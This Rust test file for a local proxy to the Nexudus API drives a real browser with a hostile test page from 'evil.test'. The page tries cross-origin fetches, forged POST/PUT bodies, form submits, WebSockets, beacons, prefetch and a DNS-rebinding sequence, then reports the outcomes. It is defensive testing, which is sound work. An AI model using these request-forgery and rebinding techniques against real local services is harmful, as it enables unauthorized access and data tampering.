//! A real browser, whose pages try everything to reach Nexudus through the proxy.
//!
//! The pages come from listeners of the test, one of which lets every page in: what fails at the
//! proxy must have succeeded there, or a browser that sends nothing would look like a shield.

use std::collections::BTreeSet;

use nexudus_simulator::Simulator;

use crate::browser_stage::{Browser, PATH, Proxy, Site, proxied};

#[test]
fn a_page_of_another_origin_reads_and_writes_nothing() {
    let nexudus = Simulator::start().unwrap();
    let proxy = Proxy::start(&nexudus, 0);
    let file = tempfile::Builder::new().suffix(".html").tempfile().unwrap();
    std::fs::write(file.path(), PAGE).unwrap();
    // `localhost` on another port is the same site, and another origin all the same.
    for page in ["http://evil.test", "http://localhost", "file://"] {
        let site = Site::start(PAGE);
        let bases = [
            ("open", format!("http://localhost:{}", site.port)),
            ("name", format!("http://localhost:{}", proxy.port)),
            ("number", format!("http://127.0.0.1:{}", proxy.port)),
            ("six", format!("http://[::1]:{}", proxy.port)),
            ("reports", format!("http://localhost:{}", site.port)),
        ];
        let query = bases.iter().map(|(label, base)| format!("{label}={base}"));
        let query = query.collect::<Vec<_>>().join("&");
        let at = match page {
            "file://" => file.path().display().to_string(),
            _ => format!(":{}/", site.port),
        };
        let _browser = Browser::visits(&format!("{page}{at}?{query}"));

        let told = site.report();
        site.passes(&expected(&["open"]));
        let refused = proxy.refusals(&expected(&LABELS));

        let read = |label: &str, kind: &str| told[label][kind].as_str().unwrap_or("").to_owned();
        // The listener that lets every page in: the browser does what it is told.
        assert_eq!(read("open", "get"), "read 200");
        for label in LABELS {
            for kind in KINDS {
                let told = read(label, kind);
                assert!(
                    !told.starts_with("read") && told != "open",
                    "{page} {label} {kind}: {told}"
                );
            }
        }
        let codes: BTreeSet<&str> = refused.values().map(String::as_str).collect();
        assert_eq!(codes, ["guard.origin"].into(), "{refused:?}");
        assert_eq!(proxied(&nexudus), 0);
    }
    // A client without a browser is served: the proxy was up all the time.
    assert!(proxy.get("localhost").starts_with("HTTP/1.1 200 "));
    assert_eq!(proxied(&nexudus), 1);
}

#[test]
fn a_name_that_now_leads_here_reads_and_writes_nothing() {
    let nexudus = Simulator::start().unwrap();
    let reports = Site::start(PAGE);
    // The page comes from the very origin that will be the proxy's a moment later.
    let before = Site::start(PAGE);
    let port = before.port;
    let own = format!("http://evil.test:{port}");
    let reports_at = format!("http://evil.test:{}", reports.port);
    let _browser =
        Browser::visits(&format!("{own}/?rebound={own}&reports={reports_at}&wait={port}"));
    before.is_visited();
    before.stop();
    let proxy = Proxy::start(&nexudus, port);

    let told = reports.report();
    let refused = proxy.refusals(&expected(&["rebound"]));

    // It is of the same origin now, and may read the answer: which is a refusal.
    assert_eq!(told["rebound"]["get"], "read 421");
    assert_eq!(told["rebound"]["put"], "read 421");
    let codes: BTreeSet<&str> = refused.values().map(String::as_str).collect();
    assert_eq!(codes, ["guard.host"].into(), "{refused:?}");
    assert_eq!(proxied(&nexudus), 0);
}

#[test]
fn a_person_who_types_the_address_reads_what_this_is() {
    let nexudus = Simulator::start().unwrap();
    let proxy = Proxy::start(&nexudus, 0);

    let shown = Browser::shows(&format!("http://localhost:{}/", proxy.port));

    assert!(shown.contains("This is nexudus-proxy, not Nexudus"), "{shown}");
    assert_eq!(proxied(&nexudus), 0);
}

/// How the proxy can be written.
const LABELS: [&str; 3] = ["name", "number", "six"];

/// The attempts of the page, each at a path of its own.
const KINDS: [&str; 14] = [
    "get",
    "get-opaque",
    "post-opaque",
    "post-json",
    "put",
    "key",
    "image",
    "script",
    "frame",
    "form",
    "websocket",
    "events",
    "beacon",
    "prefetch",
];

fn expected(labels: &[&str]) -> BTreeSet<String> {
    labels
        .iter()
        .flat_map(|label| KINDS.map(|kind| format!("{PATH}/{label}-{kind}")))
        .chain(labels.contains(&"name").then(|| format!("{PATH}/top")))
        // Only what is https or of this machine is fetched ahead.
        .filter(|path| !path.ends_with("/rebound-prefetch"))
        .collect()
}

/// The page. It says what came of each attempt, then navigates.
const PAGE: &str = r#"<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,"><body><script>
const late = new Promise(done => setTimeout(() => done('late'), 10000));
const first = (target, names) => new Promise(done =>
  names.forEach(name => target.addEventListener(name, () => done(name))));

function ways(base, label) {
  const at = kind => `${base}/api/spaces/coworkers/${label}-${kind}`;
  const read = (kind, options) => fetch(at(kind), options)
    .then(async answer => answer.type === 'opaque' ? 'opaque' : (await answer.text(), `read ${answer.status}`));
  const load = (tag, kind) => {
    const element = document.createElement(tag);
    const done = first(element, ['load', 'error']);
    element.src = at(kind);
    document.body.append(element);
    return done;
  };
  const body = '{"FullName": "Evil"}';
  return {
    'get': () => read('get'),
    'get-opaque': () => read('get-opaque', { mode: 'no-cors' }),
    'post-opaque': () => read('post-opaque', { mode: 'no-cors', method: 'POST', body }),
    'post-json': () => read('post-json',
      { method: 'POST', headers: { 'content-type': 'application/json' }, body }),
    'put': () => read('put', { method: 'PUT', body }),
    'key': () => read('key', { headers: { 'nexudus-proxy-key': 'x' }, credentials: 'include' }),
    'image': () => load('img', 'image'),
    'script': () => load('script', 'script'),
    'frame': () => load('iframe', 'frame'),
    'form': () => {
      const frame = document.createElement('iframe');
      frame.name = `${label}-target`;
      document.body.append(frame);
      const form = document.createElement('form');
      Object.assign(form, { method: 'POST', action: at('form'), target: frame.name });
      document.body.append(form);
      const done = first(frame, ['load']);
      form.submit();
      return done;
    },
    'websocket': () => first(new WebSocket(at('websocket').replace('http', 'ws')), ['open', 'error']),
    'events': () => first(new EventSource(at('events')), ['open', 'error']),
    'prefetch': async () => {
      const rules = { prefetch: [{ urls: [at('prefetch')], eagerness: 'immediate' }] };
      const script = document.createElement('script');
      Object.assign(script, { type: 'speculationrules', textContent: JSON.stringify(rules) });
      document.head.append(script);
      return 'asked';
    },
    'beacon': async () => String(navigator.sendBeacon(at('beacon'), body)),
  };
}

(async () => {
  const bases = new URLSearchParams(location.search);
  const reports = bases.get('reports') ?? location.origin;
  const waits = bases.has('wait');
  bases.delete('reports');
  bases.delete('wait');
  // Until another server answers at this page's origin.
  while (waits) {
    const answer = await fetch('/api/auth/me').catch(() => null);
    if (answer?.headers.has('proxy-status')) break;
    await new Promise(done => setTimeout(done, 50));
  }
  const told = {};
  for (const [label, base] of bases) {
    told[label] = {};
    await Promise.all(Object.entries(ways(base, label)).map(async ([kind, attempt]) => {
      told[label][kind] = await Promise.race([attempt().catch(() => 'failed'), late]);
    }));
  }
  await fetch(reports + '/report', { mode: 'no-cors', method: 'POST', body: JSON.stringify(told) });
  if (bases.has('name')) location = bases.get('name') + '/api/spaces/coworkers/top';
})();
</script>"#;
